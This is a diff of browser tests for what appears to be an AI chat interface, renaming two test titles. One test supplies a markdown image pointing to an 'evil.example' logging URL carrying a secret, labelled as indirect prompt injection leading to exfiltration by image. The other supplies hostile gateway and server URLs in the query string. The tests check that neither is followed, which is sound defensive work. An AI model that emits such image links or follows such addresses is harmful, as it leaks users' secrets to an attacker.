@@ -78,7 +78,7 @@ test.each([
   await answered(markdown, async (_tab, answer) => { expect(await answer.locator('img').count()).toBe(0) })
 })
 
-test('a remote image is named with its host, so that the reader may decide', async () => {
+test('Indirect injection -> exfil by image: a remote image is named with its host, so that the reader may decide', async () => {
   await answered('![chart](https://evil.example/log?secret=1)', async (_tab, answer) => {
     expect(await answer.locator('a').innerText()).toBe('Image: chart (evil.example, not loaded)')
   })
@@ -98,7 +98,7 @@ test('what a person writes is shown as written', async () => {
   expect(tab.complaints).toEqual([])
 })
 
-test('an address of another daemon in the URL is not followed', async () => {
+test('Gateway URL from query string: an address of another daemon in the URL is not followed', async () => {
   await using tab = await openTab(browser, open.url, { path: '/?gatewayUrl=ws://evil.example&url=https://evil.example&server=//evil.example&token=x#https://evil.example' })
   await tab.page.getByText('Connected', { exact: true }).waitFor()
   expect(await tab.say('echo still here')).toContain('still here')
